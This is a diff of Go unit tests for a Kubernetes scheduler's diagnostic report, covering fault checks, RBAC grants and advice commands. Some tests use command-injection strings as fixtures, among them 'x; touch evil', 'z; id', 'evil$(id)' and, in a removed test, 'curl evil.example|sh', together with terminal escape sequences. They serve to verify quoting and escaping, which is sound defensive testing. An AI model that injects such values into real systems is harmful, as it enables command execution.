@@ -4,13 +4,12 @@ import (
 	"context"
 	"crypto/x509"
 	"crypto/x509/pkix"
+	"errors"
 	"fmt"
-	"math"
 	"net"
 	"net/http"
 	"net/url"
 	"os"
-	"regexp"
 	"slices"
 	"strings"
 	"syscall"
@@ -19,26 +18,23 @@ import (
 
 	"github.com/google/go-cmp/cmp"
 	"github.com/prometheus/common/model"
-	appsv1 "k8s.io/api/apps/v1"
 	corev1 "k8s.io/api/core/v1"
 	rbacv1 "k8s.io/api/rbac/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
-	"k8s.io/apimachinery/pkg/runtime"
 	componentbaseconfig "k8s.io/component-base/config"
 	schedulerconfig "k8s.io/kubernetes/pkg/scheduler/apis/config"
 	testingclock "k8s.io/utils/clock/testing"
-	"k8s.io/utils/ptr"
 	"sigs.k8s.io/yaml"
 
 	"github.com/plimsoll-scheduler/plimsoll/apis/config"
 	"github.com/plimsoll-scheduler/plimsoll/pkg/estimate/reading"
-	"github.com/plimsoll-scheduler/plimsoll/pkg/estimate/reading/readingtest"
 	"github.com/plimsoll-scheduler/plimsoll/pkg/inspect/live"
 	"github.com/plimsoll-scheduler/plimsoll/pkg/load"
 	"github.com/plimsoll-scheduler/plimsoll/pkg/podusage"
+	"github.com/plimsoll-scheduler/plimsoll/pkg/provider"
 	"github.com/plimsoll-scheduler/plimsoll/pkg/source/httpclient"
 	"github.com/plimsoll-scheduler/plimsoll/pkg/source/prometheus/diagnosis"
-	"github.com/plimsoll-scheduler/plimsoll/pkg/source/prometheus/promql"
+	"github.com/plimsoll-scheduler/plimsoll/test/readingtest"
 )
 
 // sourceAt returns the facts of a Prometheus with an address.
@@ -62,14 +58,12 @@ func sourceAt(address string, pods ...*corev1.Pod) *sourceFacts {
 					Pods:      []string{"plimsoll-1"},
 				},
 			},
-			objects: &objects{
-				pods: pods,
-				services: []*corev1.Service{
-					service("monitoring", "prometheus-operated", 9090), service("monitoring", "thanos-query", 10902), service("shop", "web", 80),
-				},
+			pods: pods,
+			services: []*corev1.Service{
+				service("monitoring", "prometheus-operated", 9090), service("monitoring", "thanos-query", 10902), service("shop", "web", 80),
 			},
 		},
-		Source:      live.Source{Label: "Prometheus", Spec: spec, Address: address},
+		Source:      live.Source{SourceStatus: provider.SourceStatus{Label: "Prometheus", Spec: spec}, Address: address},
 		windows:     []time.Duration{5 * time.Minute},
 		diagnosis:   &diagnosis.Diagnosis{},
 		examination: &diagnosis.Examination{},
@@ -83,7 +77,7 @@ func checksOf(s *sourceFacts, group string) []Check {
 	return slices.DeleteFunc(r.Checks, func(c Check) bool { return c.Group != group })
 }
 
-// find returns the first check of the ID that is not OK, or else one that is; nil if there is none.
+// find returns the first check of the ID that is not OK, else one that is. It is nil if there is none.
 func find(checks []Check, id string) *Check {
 	var found *Check
 	for i := range checks {
@@ -146,8 +140,7 @@ func TestFault(t *testing.T) {
 			stageConnects, []string{"No ready pod", "kubectl -n monitoring describe pods -l app=prometheus-operated"}},
 		{"a server that is no Service", "http://10.0.0.9:9090/p", live.Direct, syscall.ECONNREFUSED, nil, stageConnects, []string{"Start the server at 10.0.0.9:9090", "curl -sS 'http://10.0.0.9:9090/p/api/v1/query?query=1'"}},
 		{"an unknown authority, with a ConfigMap", there, live.Direct, fmt.Errorf("x: %w", unknown), []*corev1.Pod{schedulerPod()},
-			stageTLS, []string{"house-ca signed the certificate", "-connect prometheus-operated.monitoring.svc:9090",
-				"kubectl -n plimsoll-system create configmap prometheus-ca --from-file=ca.crt=ca.crt"}},
+			stageTLS, []string{"house-ca signed the certificate", "/etc/plimsoll/ca/ca.crt"}},
 		{"OpenShift's authority", there, live.Direct, x509.UnknownAuthorityError{Cert: &x509.Certificate{Issuer: pkix.Name{CommonName: "openshift-service-serving-signer@1"}}}, nil,
 			stageTLS, []string{"caFile: /var/run/secrets/kubernetes.io/serviceaccount/service-ca.crt"}},
 		{"another name in the certificate", there, live.Direct, x509.HostnameError{Host: "x", Certificate: &x509.Certificate{DNSNames: []string{"prom.example.org"}}}, nil,
@@ -188,24 +181,6 @@ func TestFault(t *testing.T) {
 	}
 }
 
-// TestFault_HostedService expects the message, which knows of two keys, instead of advice about the token of a Prometheus.
-func TestFault_HostedService(t *testing.T) {
-	for code, stage := range map[int]string{
-		http.StatusForbidden: stageAuthorized, http.StatusUnauthorized: stageAuthorized, http.StatusTooManyRequests: stageAnswers,
-	} {
-		s := sourceAt("https://api.datadoghq.eu")
-		s.Spec.MetricProvider.Type = config.Datadog
-		s.diagnosis = nil
-		s.Err = &httpclient.StatusError{Code: code, Hint: "the application key lacks a scope"}
-		checks := checksOf(s, "source")
-		last := checks[len(checks)-1]
-		if last.ID != stage || !strings.Contains(last.Message, "the application key lacks a scope") ||
-			len(last.Advice) != 1 || !strings.Contains(last.Advice[0].Text, "Do what the message says") {
-			t.Errorf("status %d: the check is %+v, want a fault of %s", code, last, stage)
-		}
-	}
-}
-
 func TestTableChecks(t *testing.T) {
 	now := time.Unix(1_700_000_000, 0)
 	measured := func(mean, stdDev float64, age time.Duration) load.Measurement {
@@ -224,7 +199,7 @@ func TestTableChecks(t *testing.T) {
 		{"no load anywhere", map[string]load.NodeLoad{"b": {}}, "nodes.measured", Error, "nodes without load: 1 of 1 (b)"},
 		{"old load", map[string]load.NodeLoad{"a": both(measured(0.5, 0.1, 6*time.Minute))}, "time.age", Error, "a cpu, a memory"},
 		{"load that is old soon", map[string]load.NodeLoad{"a": both(measured(0.5, 0.1, 3*time.Minute))}, "time.age", Warning, "a expires soon"},
-		{"zero", map[string]load.NodeLoad{"a": {measured(0, 0.1, 0), measured(0.5, 0.1, 0)}}, "values.zero", Warning, "1 value is at exactly 0, which no running node is: a cpu"},
+		{"zero", map[string]load.NodeLoad{"a": {measured(0, 0.1, 0), measured(0.5, 0.1, 0)}}, "values.zero", Warning, "1 value at exactly 0, which no running node is: a cpu"},
 		{"a full node", map[string]load.NodeLoad{"a": {measured(1, 0.1, 0), measured(0.5, 0.1, 0)}}, "values.capacity", Warning, "a cpu"},
 		{"no deviation of any node", map[string]load.NodeLoad{"a": both(measured(0.5, 0, 0))}, "values.deviation", Warning, "a cpu, a memory"},
 		{"a node that is steady", map[string]load.NodeLoad{"a": both(measured(0.5, 0, 0)), "b": both(measured(0.5, 0.1, 0))}, "values.deviation", OK, ""},
@@ -236,7 +211,7 @@ func TestTableChecks(t *testing.T) {
 			loads := readingtest.New(clock)
 			loads.MeasureAll(tt.loads, nil)
 			for node := range tt.loads {
-				s.objects.nodes = append(s.objects.nodes, &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: node}})
+				s.nodes = append(s.nodes, &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: node}})
 			}
 			reader, err := loads.Open(t.Context(), reading.ForLoad(s.Spec, podusage.ByRequests{}))
 			if err != nil {
@@ -274,11 +249,6 @@ func TestWaitingChecks(t *testing.T) {
 	refused := func(p *corev1.Pod) {
 		p.Status.Conditions = []corev1.PodCondition{{Type: corev1.PodScheduled, Status: corev1.ConditionFalse}}
 	}
-	owned := func(kind, owner string) func(*corev1.Pod) {
-		return func(p *corev1.Pod) {
-			p.OwnerReferences = []metav1.OwnerReference{{Kind: kind, Name: owner, Controller: ptr.To(true)}}
-		}
-	}
 	for _, tt := range []struct {
 		name    string
 		pods    []*corev1.Pod
@@ -286,26 +256,21 @@ func TestWaitingChecks(t *testing.T) {
 		want    Status
 		wants   []string
 	}{
-		{"a scheduler has said why", []*corev1.Pod{pod("a", "other", time.Hour, refused)}, true, OK, []string{"1 pod waits for other reasons"}},
+		{"a scheduler has said why", []*corev1.Pod{pod("a", "other", time.Hour, refused)}, true, OK, []string{"1 pod for other reasons"}},
 		{"a pod that has just been created", []*corev1.Pod{pod("a", "other", time.Second, nil)}, true, OK, nil},
 		{"a pod on a node", []*corev1.Pod{pod("a", "other", time.Hour, func(p *corev1.Pod) { p.Spec.NodeName = "n" })}, true, OK, nil},
 		{"a pod with a gate", []*corev1.Pod{pod("a", "other", time.Hour, func(p *corev1.Pod) { p.Spec.SchedulingGates = []corev1.PodSchedulingGate{{Name: "g"}} })}, true, OK, nil},
-		{"a misspelled name", []*corev1.Pod{pod("a", "plimsol", time.Hour, nil)}, true, Error, []string{`did you mean "plimsoll"?`, `"schedulerName":"plimsoll"`, "get pod a"}},
-		{"a name that is like no other", []*corev1.Pod{pod("a", "zzz", time.Hour, nil)}, true, Error, []string{`"schedulerName":"default-scheduler"`}},
-		{"pods of a StatefulSet", []*corev1.Pod{pod("a-0", "plimsol", time.Hour, owned("StatefulSet", "a")), pod("a-1", "plimsol", time.Hour, owned("StatefulSet", "a"))},
-			true, Error, []string{"2 pods wait", "kubectl -n shop patch statefulset a --type=merge"}},
-		{"a Job", []*corev1.Pod{pod("a", "plimsol", time.Hour, owned("Job", "j"))}, true, Error, []string{"create Job shop/j again"}},
-		{"a CronJob's pods", []*corev1.Pod{pod("a", "plimsol", time.Hour, owned("CronJob", "c"))}, true, Error,
-			[]string{`kubectl -n shop patch cronjob c --type=merge -p '{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"schedulerName":"plimsoll"}}}}}}'`}},
+		{"a misspelled name", []*corev1.Pod{pod("a", "plimsol", time.Hour, nil), pod("b", "plimsol", time.Hour, nil)}, true, Error,
+			[]string{"2 waiting pods", `did you mean "plimsoll"?`, "schedulerName: plimsoll", "spec.schedulerName=plimsol "}},
+		{"a name that is like no other", []*corev1.Pod{pod("a", "zzz", time.Hour, nil)}, true, Error, []string{"schedulerName: default-scheduler"}},
+		{"a hostile name", []*corev1.Pod{pod("a", "z; id", time.Hour, nil)}, true, Error, []string{"'spec.nodeName=,spec.schedulerName=z; id'"}},
 		{"our scheduler is down", []*corev1.Pod{pod("a", "plimsoll", time.Hour, nil)}, false, Error, []string{"its scheduler is down", "describe"}},
 		{"our scheduler is slow", []*corev1.Pod{pod("a", "plimsoll", time.Hour, nil)}, true, Warning, []string{"a profile has this name"}},
 		{"our scheduler works on it", []*corev1.Pod{pod("a", "plimsoll", time.Hour, nil), pod("b", "plimsoll", time.Hour, refused)}, true, OK, nil},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
-			o := objectsOf([]runtime.Object{&appsv1.StatefulSet{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "a"}}})
-			o.pods = tt.pods
 			f := sourceAt("").facts
-			f.objects, f.configuration.Decoded.Profiles = o, []schedulerconfig.KubeSchedulerProfile{{SchedulerName: "plimsoll"}}
+			f.pods, f.configuration.Decoded.Profiles = tt.pods, []schedulerconfig.KubeSchedulerProfile{{SchedulerName: "plimsoll"}}
 			if tt.leading {
 				f.configuration.Workload.Name = "" // nothing is known but that it runs
 			}
@@ -320,6 +285,29 @@ func TestWaitingChecks(t *testing.T) {
 				}
 			}
 		})
+	}
+}
+
+// TestReportOn_HostileText expects no output of the report to steer a terminal, whatever users of the cluster write.
+func TestReportOn_HostileText(t *testing.T) {
+	const evil = "x\x1b[2Jy\u202ez"
+	s := healthy()
+	s.configuration.Origin = evil
+	s.pods = append(s.pods, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: evil}, Spec: corev1.PodSpec{SchedulerName: evil}})
+	s.nodes = append(s.nodes, &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: evil}})
+	s.Err = errors.New(evil)
+	r := reportOn(s.facts)
+	if text := fmt.Sprint(*r); strings.ContainsAny(text, "\x1b\u202e") {
+		t.Errorf("%q steers a terminal", text)
+	}
+	waiting := find(r.Checks, "pods.waiting")
+	if waiting == nil || !strings.Contains(waiting.Advice[0].Command, `spec.schedulerName=x\x1b[2Jy\u202ez`) {
+		t.Errorf("%+v, want a command with the escaped name", waiting)
+	}
+	r = &Report{Checks: []Check{{Advice: []Advice{{Text: "\x1b", Command: "a \x1b\nb", YAML: "a: \x1b\nb: 1\n"}}}}}
+	r.escape()
+	if want := (Advice{Text: `\x1b`, Command: "a \\x1b\nb", YAML: "a: \\x1b\nb: 1\n"}); r.Checks[0].Advice[0] != want {
+		t.Errorf("%+v, want the lines of %+v", r.Checks[0].Advice[0], want)
 	}
 }
 
@@ -351,8 +339,8 @@ plimsoll_fallback_total{plugin="LoadThreshold",reason="Absent"} 10
 		}
 	}
 	want := []string{
-		"error scheduler.load: the scheduler's metrics, from a test, say Prometheus: memory fresh on 0, expired on 3, absent on 0 nodes",
 		"ok scheduler.load: Prometheus: cpu fresh on 3, expired on 0, absent on 0 nodes",
+		"error scheduler.load: the scheduler's metrics, from a test, say Prometheus: memory fresh on 0, expired on 3, absent on 0 nodes",
 		"warning scheduler.refreshes: Prometheus: 20 of 100 refreshes failed since the scheduler started",
 		"ok scheduler.fallbacks: LoadThreshold decided 10 of 100 placements without load",
 		"warning scheduler.fallbacks: TargetLoadPacking decided 11 of 100 placements without load since the scheduler started: StepAside 11",
@@ -379,8 +367,7 @@ func TestClaimsOf(t *testing.T) {
 	}
 }
 
-// TestNeededPermissions compares with the roles that the chart installs: a right that is checked must be granted there,
-// and the other way round.
+// TestNeededPermissions expects the chart to grant the permissions that are checked, and no others.
 func TestNeededPermissions(t *testing.T) {
 	text, err := os.ReadFile("../../../manifests/second-scheduler.yaml")
 	if err != nil {
@@ -405,21 +392,7 @@ func TestNeededPermissions(t *testing.T) {
 	if len(granted) == 0 {
 		t.Fatal("no role was found")
 	}
-	cfg := &schedulerconfig.KubeSchedulerConfiguration{Profiles: []schedulerconfig.KubeSchedulerProfile{
-		{
-			Plugins: &schedulerconfig.Plugins{
-				Score: schedulerconfig.PluginSet{Enabled: []schedulerconfig.Plugin{{Name: config.TargetLoadPacking}}},
-			},
-			PluginConfig: []schedulerconfig.PluginConfig{
-				{
-					Name: config.TargetLoadPacking,
-					Args: &config.TargetLoadPackingArgs{
-						LoadSpec: config.LoadSpec{MetricProvider: config.MetricProviderSpec{Type: config.KubernetesMetricsServer}},
-					},
-				},
-			},
-		},
-	}}
+	cfg := &schedulerconfig.KubeSchedulerConfiguration{}
 	needed := map[string]bool{}
 	election := componentbaseconfig.LeaderElectionConfiguration{
 		LeaderElect:       true,
@@ -471,76 +444,38 @@ func TestGrants(t *testing.T) {
 		{Resource: "pods/status", Verbs: []string{"patch"}},
 	}
 	got := live.Grants(permissions, to)
-	want := `apiVersion: rbac.authorization.k8s.io/v1
-kind: ClusterRole
-metadata:
-  name: plimsoll-may-1
-rules:
-- apiGroups:
-  - ""
-  resources:
-  - nodes
-  - services
-  verbs:
-  - get
-  - list
-- apiGroups:
-  - ""
-  resources:
-  - pods/status
-  verbs:
-  - patch
----
-apiVersion: rbac.authorization.k8s.io/v1
-kind: ClusterRoleBinding
-metadata:
-  name: plimsoll-may-1
-roleRef:
-  apiGroup: rbac.authorization.k8s.io
-  kind: ClusterRole
-  name: plimsoll-may-1
-subjects:
-- kind: ServiceAccount
-  name: account
-  namespace: ns
----
-apiVersion: rbac.authorization.k8s.io/v1
-kind: Role
-metadata:
-  name: plimsoll-may-2
-  namespace: ns
-rules:
-- apiGroups:
-  - coordination.k8s.io
-  resourceNames:
-  - lease
-  resources:
-  - leases
-  verbs:
-  - get
----
-apiVersion: rbac.authorization.k8s.io/v1
-kind: RoleBinding
-metadata:
-  name: plimsoll-may-2
-  namespace: ns
-roleRef:
-  apiGroup: rbac.authorization.k8s.io
-  kind: Role
-  name: plimsoll-may-2
-subjects:
-- kind: ServiceAccount
-  name: account
-  namespace: ns
-`
-	names := map[string]string{}
-	numbered := regexp.MustCompile("plimsoll-may-[0-9a-f]{8}").ReplaceAllStringFunc(got, func(name string) string {
-		if names[name] == "" {
-			names[name] = fmt.Sprintf("plimsoll-may-%d", len(names)+1)
+	names := map[string]bool{}
+	var kinds []string
+	rules := map[string][]rbacv1.PolicyRule{}
+	for document := range strings.SplitSeq(got, "---\n") {
+		var role rbacv1.Role // the fields of all four kinds but for subjects and roleRef
+		var binding rbacv1.RoleBinding
+		if err := errors.Join(yaml.Unmarshal([]byte(document), &role), yaml.Unmarshal([]byte(document), &binding)); err != nil {
+			t.Fatal(err)
 		}
-		return names[name]
-	})
-	if diff := cmp.Diff(want, numbered); diff != "" {
+		kinds, names[role.Name] = append(kinds, role.Kind+" "+role.Namespace), true
+		if role.Rules != nil {
+			rules[role.Namespace] = role.Rules
+		} else if !slices.Equal(binding.Subjects, []rbacv1.Subject{to}) || binding.RoleRef.Name != binding.Name {
+			t.Errorf("the binding is %+v", binding)
+		}
+	}
+	if diff := cmp.Diff([]string{"ClusterRole ", "ClusterRoleBinding ", "Role ns", "RoleBinding ns"}, kinds); diff != "" {
+		t.Errorf("(-want +got):\n%s", diff)
+	}
+	core := []string{""}
+	if diff := cmp.Diff(map[string][]rbacv1.PolicyRule{
+		"": {
+			{APIGroups: core, Resources: []string{"nodes", "services"}, Verbs: []string{"get", "list"}},
+			{APIGroups: core, Resources: []string{"pods/status"}, Verbs: []string{"patch"}},
+		},
+		"ns": {{
+			APIGroups:     []string{"coordination.k8s.io"},
+			Resources:     []string{"leases"},
+			ResourceNames: []string{"lease"},
+			Verbs:         []string{"get"},
+		}},
+	}, rules); diff != "" {
 		t.Errorf("(-want +got):\n%s", diff)
 	}
 	for name := range names {
@@ -560,64 +495,14 @@ subjects:
 	}
 }
 
-// TestCheckReached_UnknownStage expects no stage to be called fine where it is not known how far a request came, such as with a
-// source that has a default address.
-func TestCheckReached_UnknownStage(t *testing.T) {
-	s := sourceAt("")
-	s.Spec.MetricProvider.Type, s.Label, s.diagnosis = "Datadog", "Datadog", nil
-	s.Err = &net.DNSError{Err: "no such host", Name: "api.example.org"}
-	if checks := checksOf(s, "source"); len(checks) != 1 || checks[0].Status != Error || len(checks[0].Advice) == 0 {
-		t.Errorf("got %+v, want the fault alone", checks)
-	}
-}
-
-// TestAdviseWaiting_HostileOwner expects nothing of what a pod's author wrote as its owner in what is said, unless the owner exists
-// or can exist.
-func TestAdviseWaiting_HostileOwner(t *testing.T) {
-	set := &appsv1.ReplicaSet{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "web-1"}}
-	of := func(d string) *appsv1.ReplicaSet {
-		set := &appsv1.ReplicaSet{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "of-" + d[:1]}}
-		set.OwnerReferences = []metav1.OwnerReference{{Kind: "Deployment", Name: d, Controller: ptr.To(true)}}
-		return set
-	}
-	all := objectsOf([]runtime.Object{set, of("deployed"), of("x; id")})
-	for _, tt := range []struct{ kind, name, command string }{
-		{"Deployment", "evil; curl evil.example|sh #\x1b[2J", ""},
-		{"Foo; touch evil #\n\x1b[31mRIGHTS ok", "x", ""},
-		{"Deployment", "evil", ""}, // pods are made by ReplicaSets
-		{"ReplicaSet", "evil", ""},
-		{"ReplicaSet", "of-x", ""},
-		{"StatefulSet", "evil", ""},
-		{"DaemonSet", "evil$(id)", ""},
-		{"DaemonSet", "--all", ""},
-		{"ReplicaSet", "web-1", "patch replicaset web-1"},
-		{"ReplicaSet", "of-d", "patch deployment deployed"},
-		{"DaemonSet", "agent", "patch daemonset agent"},
-	} {
-		pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "a"}}
-		pod.OwnerReferences = []metav1.OwnerReference{{Kind: tt.kind, Name: tt.name, Controller: ptr.To(true)}}
-		advice := all.adviseWaiting([]*corev1.Pod{pod}, "plimsol", []string{"plimsoll"})[0]
-		if tt.command == "" && (advice.Command != "" || strings.Contains(advice.Text, "evil")) ||
-			!strings.Contains(advice.Command, tt.command) ||
-			advice.Text == "" {
-			t.Errorf("owner %s %q: %+v", tt.kind, tt.name, advice)
-		}
-	}
-	r := &Report{}
-	r.add(Check{ID: "a.b", Message: "x\x1b[2Jy\u202ez", Advice: []Advice{{Text: "\x1b", Command: "\x1b", YAML: "a: \x1b\nb: 1\n"}}})
-	if c := r.Checks[0]; strings.ContainsAny(fmt.Sprint(c), "\x1b\u202e") {
-		t.Errorf("%q steers a terminal", c)
-	}
-}
-
-// TestCommands_Quoted expects every name that a configuration or an object brings into a command to be one word of the shell.
+// TestCommands_Quoted expects names of configurations and objects to be one word of the shell in commands.
 func TestCommands_Quoted(t *testing.T) {
 	const evil = "x; touch evil"
 	s := sourceAt("http://prometheus-operated.monitoring.svc:9090", schedulerPod())
 	w := s.configuration.Workload
 	w.Container = evil
-	s.objects.pods[0].Spec.Volumes[0].Secret.SecretName, s.objects.pods[0].Spec.Volumes[1].ConfigMap.Name = evil, evil
-	s.objects.services[0].Spec.Selector = map[string]string{"app": evil}
+	s.pods[0].Spec.Volumes[0].Secret.SecretName, s.pods[0].Spec.Volumes[1].ConfigMap.Name = evil, evil
+	s.services[0].Spec.Selector = map[string]string{"app": evil}
 	advice := s.adviseAuthority(&x509.Certificate{})
 	advice = append(advice, s.adviseAddress()...)
 	advice = append(advice, Advice{Command: w.DoctorCommand()}, Advice{Command: s.queryCommand(evil)},
@@ -634,54 +519,34 @@ func TestCommands_Quoted(t *testing.T) {
 	}
 }
 
-// TestCheckCapacity_Infinite expects a query that divides by zero to be told from one in percent.
-func TestCheckCapacity_Infinite(t *testing.T) {
-	s := sourceAt("http://10.0.0.9:9090")
-	s.diagnosis.Queries = []diagnosis.QueryDiagnosis{{Query: promql.Query{PromQL: "a / 0"}, Highest: math.Inf(1), HighestNode: "n1"}}
-	c := s.checkCapacity()[0]
-	if c.Status != Error || strings.Contains(c.Message, "Inf") || c.Advice[0].YAML != "" ||
-		!strings.Contains(c.Advice[0].Command, "a / 0") {
-		t.Errorf("got %+v", c)
+// TestFault_HostedSource expects the message and no advice about a Prometheus. No stage is fine where the address is unknown.
+func TestFault_HostedSource(t *testing.T) {
+	status := func(code int) error {
+		return &httpclient.StatusError{Code: code, Hint: "the application key lacks a scope"}
 	}
-}
-
-// TestCheckUnnamed expects one check for all nodes with the same advice.
-func TestCheckUnnamed(t *testing.T) {
-	s := sourceAt("http://10.0.0.9:9090")
-	s.diagnosis.NodeCount = 11
-	s.examination.Sampling = map[string]diagnosis.Sampling{"healthy": {Interval: time.Second}}
-	for i := range 10 {
-		s.diagnosis.NodesWithoutSeries = append(s.diagnosis.NodesWithoutSeries, fmt.Sprintf("w%d", i))
-	}
-	s.examination.Unnamed = s.diagnosis.NodesWithoutSeries
-	for _, tt := range []struct {
-		strays []string
-		want   string
-	}{
-		{[]string{`up{instance="a"}`}, `no label names these nodes without load: w0, w1, w2, w3, w4, …; these series name no node: up{instance="a"}`},
-		{nil, "no series has a label that names a node without load: w0, w1, w2, w3, w4, …"},
-	} {
-		s.examination.Strays = tt.strays
-		checks := checksOf(s, "nodes")
-		if c := find(checks, "nodes.nearest"); c == nil || c.Message != tt.want || c.Status != Warning {
-			t.Errorf("got %+v, want %s", c, tt.want)
-		}
-		if c := find(checks, "nodes.measured"); strings.Contains(fmt.Sprint(c.Advice), "too few samples") {
-			t.Errorf("samples of a node that has load count for those without: %+v", c)
-		}
-	}
-}
-
-// TestCheckReached_HostedSource expects sources without an address of the cluster's to be checked as far as any source can be.
-func TestCheckReached_HostedSource(t *testing.T) {
 	for _, kind := range []config.MetricProviderType{config.SignalFx, config.Datadog} {
-		for _, err := range []error{&httpclient.StatusError{Code: http.StatusForbidden}, &net.DNSError{Err: "no such host"}, syscall.ECONNREFUSED, context.DeadlineExceeded} {
+		for _, tt := range []struct {
+			err   error
+			stage string
+			want  string
+		}{
+			{status(http.StatusForbidden), stageAuthorized, "the application key lacks a scope"},
+			{status(http.StatusUnauthorized), stageAuthorized, "the application key lacks a scope"},
+			{status(http.StatusTooManyRequests), stageAnswers, "the application key lacks a scope"},
+			{&net.DNSError{Err: "no such host"}, stageResolves, "no such host"},
+			{syscall.ECONNREFUSED, stageConnects, "connection refused"},
+			{context.DeadlineExceeded, stageConnects, "deadline exceeded"},
+		} {
 			s := sourceAt("")
-			s.Spec.MetricProvider.Type, s.Label, s.diagnosis, s.Err = kind, string(kind), nil, err
+			s.Spec.MetricProvider.Type, s.Label, s.diagnosis, s.Err = kind, string(kind), nil, tt.err
 			checks := checksOf(s, "source")
 			last := checks[len(checks)-1]
-			if last.Status == OK || len(last.Advice) == 0 || strings.Contains(fmt.Sprint(last), "metrics-server") {
-				t.Errorf("%s, %v: %+v", kind, err, last)
+			if last.ID != tt.stage || last.Status != Error || !strings.Contains(last.Message, tt.want) ||
+				!strings.Contains(last.Advice[0].Text, "Do what the message says") {
+				t.Errorf("%s, %v: %+v, want a fault of %s", kind, tt.err, last, tt.stage)
+			}
+			if tt.stage == stageResolves && len(checks) > 1 {
+				t.Errorf("%s: %+v, want the fault alone", kind, checks)
 			}
 		}
 	}
